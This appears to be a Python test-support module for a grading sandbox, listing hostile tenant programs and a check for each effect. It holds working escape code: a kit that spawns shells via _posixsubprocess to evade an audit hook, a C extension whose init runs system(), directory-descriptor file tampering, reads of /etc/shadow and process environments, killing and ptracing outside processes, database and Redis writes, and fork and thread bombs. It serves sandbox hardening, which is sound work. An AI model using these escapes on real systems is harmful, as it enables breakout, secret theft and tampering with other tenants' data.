"""Hostile programs for the code jail (tests/grading/test_sandbox_escapes.py), and what each would do outside.

Every case is a program a tenant could put in a prompt's ```python block, and a check of the one effect it
is after: a marker file created, a victim file changed, a secret printed, the sentinel process killed or
stopped, a table made in the test database, a key set in Redis, a process left running, more processes or
threads than the limit. `KIT` gives the programs what the old fence (an audit hook) never saw:
`_posixsubprocess.fork_exec` (no audit event) for a shell or a fresh interpreter, directory descriptors for
relative paths the hook judged inside, and `EVIL_C`, an extension module the program writes into its own
directory and imports: native code the hook cannot see, whose init also calls `system()`.
"""

from __future__ import annotations

import base64
import os
import subprocess
import sys
import sysconfig
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

KIT = """\
import base64, importlib.util, os, sys, _posixsubprocess

def spawn(argv, executable=None, setsid=False, keep=()):
    r, w = os.pipe()
    exe = [os.fsencode(executable or argv[0])]
    pid = _posixsubprocess.fork_exec([os.fsencode(a) for a in argv], exe, True, tuple(sorted((w, *keep))), None, None,
                                     -1, -1, -1, -1, -1, -1, r, w, True, setsid, -1, None, None, None, -1,
                                     None, True)
    os.close(w)
    failed = os.read(r, 4096)
    os.close(r)
    return pid, failed

def sh(command):
    pid, failed = spawn(["/bin/sh", "-c", command])
    print("shell", os.waitpid(pid, 0)[1] >> 8, failed)

def native(init_command=""):
    with open("init-command", "w") as f:
        f.write(init_command)
    with open("evil.so", "wb") as f:
        f.write(base64.b64decode(EVIL))
    spec = importlib.util.spec_from_file_location("evil", os.path.abspath("evil.so"))
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module
"""

EVIL_C = r"""
#define PY_SSIZE_T_CLEAN
#include <Python.h>
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static PyObject *result(int ok) { return PyLong_FromLong(ok ? 0 : -errno); }

static PyObject *ev_system(PyObject *self, PyObject *args) {
    const char *command;
    if (!PyArg_ParseTuple(args, "s", &command)) return NULL;
    return PyLong_FromLong(system(command));
}

static PyObject *ev_connect_unix(PyObject *self, PyObject *args) {
    const char *path;
    if (!PyArg_ParseTuple(args, "s", &path)) return NULL;
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    if (s < 0) return result(0);
    struct sockaddr_un a = {0};
    a.sun_family = AF_UNIX;
    strncpy(a.sun_path, path, sizeof a.sun_path - 1);
    int ok = connect(s, (struct sockaddr *)&a, sizeof a) == 0;
    PyObject *r = result(ok);
    close(s);
    return r;
}

static PyObject *ev_connect_tcp(PyObject *self, PyObject *args) {
    int port;
    if (!PyArg_ParseTuple(args, "i", &port)) return NULL;
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (s < 0) return result(0);
    struct sockaddr_in a = {0};
    a.sin_family = AF_INET;
    a.sin_port = htons(port);
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int ok = connect(s, (struct sockaddr *)&a, sizeof a) == 0;
    PyObject *r = result(ok);
    close(s);
    return r;
}

static PyObject *ev_kill(PyObject *self, PyObject *args) {
    int pid, sig;
    if (!PyArg_ParseTuple(args, "ii", &pid, &sig)) return NULL;
    return result(kill(pid, sig) == 0);
}

static PyObject *ev_ptrace(PyObject *self, PyObject *args) {
    int pid;
    if (!PyArg_ParseTuple(args, "i", &pid)) return NULL;
    if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) != 0) return result(0);
    waitpid(pid, NULL, 0);
    ptrace(PTRACE_DETACH, pid, NULL, NULL);
    return result(1);
}

static PyObject *ev_write(PyObject *self, PyObject *args) {
    const char *path;
    if (!PyArg_ParseTuple(args, "s", &path)) return NULL;
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0) return result(0);
    int ok = write(fd, "pwned", 5) == 5;
    close(fd);
    return result(ok);
}

static PyObject *ev_read(PyObject *self, PyObject *args) {
    const char *path;
    char buf[4096];
    if (!PyArg_ParseTuple(args, "s", &path)) return NULL;
    int fd = open(path, O_RDONLY);
    if (fd < 0) return result(0);
    ssize_t n = read(fd, buf, sizeof buf);
    close(fd);
    return n < 0 ? result(0) : PyBytes_FromStringAndSize(buf, n);
}

static PyMethodDef methods[] = {
    {"system", ev_system, METH_VARARGS, ""}, {"connect_unix", ev_connect_unix, METH_VARARGS, ""},
    {"connect_tcp", ev_connect_tcp, METH_VARARGS, ""}, {"kill", ev_kill, METH_VARARGS, ""},
    {"ptrace", ev_ptrace, METH_VARARGS, ""}, {"write", ev_write, METH_VARARGS, ""},
    {"read", ev_read, METH_VARARGS, ""}, {NULL, NULL, 0, NULL}};
static struct PyModuleDef module = {PyModuleDef_HEAD_INIT, "evil", NULL, -1, methods};

PyMODINIT_FUNC PyInit_evil(void) {
    FILE *f = fopen("init-command", "r");
    if (f) {
        char command[4096];
        size_t n = fread(command, 1, sizeof command - 1, f);
        command[n] = 0;
        fclose(f);
        if (n) system(command);
    }
    return PyModule_Create(&module);
}
"""


def build_evil(directory: Path) -> bytes:
    """EVIL_C compiled for the jail's interpreter (the venv's base), as a shared object's bytes."""
    source = directory / "evil.c"
    source.write_text(EVIL_C)
    include = sysconfig.get_config_var("INCLUDEPY")
    out = directory / "evil.so"
    subprocess.run(["gcc", "-shared", "-fPIC", "-O1", f"-I{include}", str(source), "-o", str(out)], check=True)
    return out.read_bytes()


@dataclass
class Target:
    """What the cases go after, all outside the jail and planted by the test."""

    outside: Path  # a directory of the test's: nothing may appear in it, nothing in it may change
    marker: Path  # must never exist
    victim: Path  # must keep VICTIM
    secret: str  # planted in home/switchboard.db, the sentinel's environment and argv, another run's directory
    home: Path  # a gateway home: switchboard.db, usage-spool.jsonl
    other_run: Path  # another run's directory (as the jail makes them), with the secret in it
    sentinel: subprocess.Popen  # a process outside that must stay alive and running
    psql: str  # a psql connection string over PostgreSQL's Unix socket
    pg_socket: str  # that socket's path
    table: str  # must never be created; `secret_table` holds the secret
    redis_port: int
    redis_key: str  # must never be set
    tag: str  # in the argv of anything a case leaves running
    evil: str  # base64 of the extension module
    shadow_line: str  # the first line of /etc/shadow ('' where unreadable here)


VICTIM = "keep me"


@dataclass(frozen=True)
class Case:
    name: str
    program: Callable[[Target], str]
    effect: Callable[[Target, str], str | None]  # (target, its output) -> what happened outside, or None


def _sentinel_state(t: Target) -> str:
    with open(f"/proc/{t.sentinel.pid}/stat") as f:
        return f.read().rsplit(")", 1)[1].split()[0]


def killed(t: Target, _: str) -> str | None:
    if t.sentinel.poll() is not None:
        return f"the sentinel died ({t.sentinel.returncode})"
    state = _sentinel_state(t)
    return f"the sentinel is stopped ({state})" if state in "tT" else None


def made(t: Target, _: str) -> str | None:
    return f"{t.marker.name} was created outside" if os.path.lexists(t.marker) else None


def changed(t: Target, _: str) -> str | None:
    if not t.victim.exists():
        return "the victim file is gone"
    return None if t.victim.read_text() == VICTIM else "the victim file changed"


def printed(secret: Callable[[Target], str]) -> Callable[[Target, str], str | None]:
    def effect(t: Target, out: str) -> str | None:
        s = secret(t)
        return f"it printed {s[:24]!r}" if s and s in out else None

    return effect


def said(word: str) -> Callable[[Target, str], str | None]:
    def effect(_: Target, out: str) -> str | None:
        return f"it printed {word!r}" if word in out else None

    return effect


def at_most(limit: int) -> Callable[[Target, str], str | None]:
    def effect(_: Target, out: str) -> str | None:
        counts = [int(line.split()[1]) for line in out.splitlines() if line.startswith("started ")]
        return f"it started {counts[-1]}" if counts and counts[-1] > limit else None

    return effect


def table_made(t: Target, _: str) -> str | None:
    found = subprocess.run(["psql", t.psql, "-tAc", f"select to_regclass('{t.table}') is not null"],
                           capture_output=True, text=True, check=True)  # fmt: skip
    return f"table {t.table} was created" if found.stdout.strip() == "t" else None


def redis_set(t: Target, _: str) -> str | None:
    import redis

    client = redis.Redis(port=t.redis_port)
    try:
        return "the Redis key was set" if client.get(t.redis_key) is not None else None
    finally:
        client.close()


def survivors(t: Target, _: str) -> str | None:
    left = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if t.tag.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                left.append(int(pid))
        except OSError:
            continue
    for pid in left:
        os.kill(pid, 9)
    return f"{len(left)} processes outlived the run" if left else None


def touch(t: Target) -> str:
    return f"open({str(t.marker)!r}, 'w')"


SURVIVOR = "import time; time.sleep(120)  # {tag}"

CASES = [
    Case("shell writes a file outside", lambda t: f"sh('touch {t.marker}')", made),
    Case(
        "shell reaches PostgreSQL's Unix socket",
        lambda t: f"sh(\"psql '{t.psql}' -c 'create table {t.table} ()'\")",
        table_made,
    ),
    Case(
        "shell reads a table",
        lambda t: f"sh(\"psql '{t.psql}' -tAc 'select v from secret_table'\")",
        printed(lambda t: t.secret),
    ),
    Case("shell kills a process outside", lambda t: f"sh('kill -9 {t.sentinel.pid}')", killed),
    Case("shell appends to a file outside", lambda t: f"sh('echo {t.tag} >> {t.victim}')", changed),
    Case(
        "execve of /bin/sh",
        lambda _: "pid, failed = spawn(['/bin/sh', '-c', 'echo shell-$((40 + 2))'])\nos.waitpid(pid, 0)",
        said("shell-42"),
    ),  # only a shell that ran computes it
    Case(
        "execve of python itself",
        lambda t: f"pid, _ = spawn([sys.executable, '-c', {touch(t)!r}])\nos.waitpid(pid, 0)",
        made,
    ),
    Case(
        "memfd execve of a copy of python",
        lambda t: (
            "fd = os.memfd_create('x', 0)\nos.write(fd, open(sys.executable, 'rb').read())\n"
            f"pid, _ = spawn(['py', '-c', {touch(t)!r}], executable=f'/proc/self/fd/{{fd}}', keep=(fd,))\n"
            "os.waitpid(pid, 0)"
        ),
        made,
    ),
    Case("reads /etc/shadow", lambda _: "print(open('/etc/shadow').read())", printed(lambda t: t.shadow_line)),
    Case(
        "reads the gateway's database file",
        lambda t: f"print(open('{t.home}/switchboard.db').read())",
        printed(lambda t: t.secret),
    ),
    Case("lists a directory outside", lambda t: f"print(os.listdir('{t.outside}'))", said("victim.txt")),
    Case(
        "reads another run's directory",
        lambda t: f"print(open('{t.other_run}/work/answer.py').read())",
        printed(lambda t: t.secret),
    ),
    Case(
        "reads a process's command line",
        lambda t: f"print(open('/proc/{t.sentinel.pid}/cmdline').read())",
        printed(lambda t: t.secret),
    ),
    Case(
        "writes through a directory descriptor",
        lambda t: (
            f"d = os.open('{t.outside}', os.O_RDONLY)\nos.write(os.open('victim.txt', os.O_WRONLY | os.O_TRUNC, "
            "dir_fd=d), b'pwned')"
        ),
        changed,
    ),
    Case(
        "removes through a directory descriptor",
        lambda t: f"os.remove('victim.txt', dir_fd=os.open('{t.outside}', os.O_RDONLY))",
        changed,
    ),
    Case(
        "renames out through a directory descriptor",
        lambda t: f"os.rename('victim.txt', 'mine.txt', src_dir_fd=os.open('{t.outside}', os.O_RDONLY))",
        changed,
    ),
    Case(
        "plants a symlink through a directory descriptor",
        lambda t: f"os.symlink('victim.txt', '{t.marker.name}', dir_fd=os.open('{t.outside}', os.O_RDONLY))",
        made,
    ),
    Case("an extension module whose init calls system()", lambda t: f"native('touch {t.marker}')", made),
    Case("native code writes a file outside", lambda t: f"print(native().write('{t.marker}'))", made),
    Case(
        "native code reads /etc/shadow",
        lambda _: "print(native().read('/etc/shadow'))",
        printed(lambda t: t.shadow_line),
    ),
    Case(
        "native code connects to PostgreSQL's socket",
        lambda t: f"print('connect', native().connect_unix('{t.pg_socket}'))",
        said("connect 0"),
    ),
    Case("native code kills a process outside", lambda t: f"print(native().kill({t.sentinel.pid}, 9))", killed),
    Case(
        "pidfd_send_signal to a process outside",
        lambda t: f"import signal\nsignal.pidfd_send_signal(os.pidfd_open({t.sentinel.pid}), signal.SIGKILL)",
        killed,
    ),
    Case(
        "a process left running past the run",
        lambda t: f"spawn([sys.executable, '-c', {SURVIVOR.format(tag=t.tag)!r}], setsid=True)",
        survivors,
    ),
    Case(
        "fork bomb",
        lambda _: (
            "n = 0\ntry:\n    for n in range(1, 101):\n        spawn(['/bin/sleep', '30'])\n"
            "except OSError:\n    n -= 1\nprint('started', n)"
        ),
        at_most(64),
    ),
    Case(
        "thread bomb",
        lambda _: (
            "import threading, time\nthreading.stack_size(65536)\nn = 0\ntry:\n"
            "    for n in range(1, 301):\n        threading.Thread(target=time.sleep, args=(5,), daemon=True).start()\n"
            "except RuntimeError:\n    n -= 1\nprint('started', n, flush=True)\nos._exit(0)"
        ),
        at_most(64),
    ),
]

# The old fence held these (its network namespace, its user namespace's lack of ptrace rights, its ctypes
# refusal); each is shown to work from a plain interpreter instead.
PLAIN_CASES = [
    Case(
        "TCP to Redis",
        lambda t: (
            f"import socket\ns = socket.create_connection(('127.0.0.1', {t.redis_port}))\n"
            f"s.sendall(b'SET {t.redis_key} pwned\\r\\n')\nprint(s.recv(16))"
        ),
        redis_set,
    ),
    Case("native TCP connect", lambda t: f"print('connect', native().connect_tcp({t.redis_port}))", said("connect 0")),
    Case(
        "a Unix socket to PostgreSQL",
        lambda t: f"import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('{t.pg_socket}')\nprint('connected')",
        said("connected"),
    ),
    Case(
        "reads a process's environment",
        lambda t: f"print(open('/proc/{t.sentinel.pid}/environ').read())",
        printed(lambda t: t.secret),
    ),
    Case(
        "native code ptraces a process outside",
        lambda t: f"print('ptrace', native().ptrace({t.sentinel.pid}))",
        said("ptrace 0"),
    ),
    Case("ctypes calls system()", lambda t: f"import ctypes\nctypes.CDLL(None).system(b'touch {t.marker}')", made),
]


def program(case: Case, t: Target) -> str:
    return f"EVIL = {t.evil!r}\n{KIT}\n{case.program(t)}\n"


def plain(case: Case, t: Target) -> subprocess.CompletedProcess:
    """The case run by a plain interpreter in a directory of its own: no fence at all."""
    work = t.outside.parent / f"plain-{t.tag}"
    work.mkdir()
    return subprocess.run([sys.executable, "-c", program(case, t)], cwd=work, capture_output=True, text=True,
                          timeout=60)  # fmt: skip


def output(result: Any) -> str:
    return f"{result.stdout}\n{result.stderr}"


def evil_b64(data: bytes) -> str:
    return base64.b64encode(data).decode()
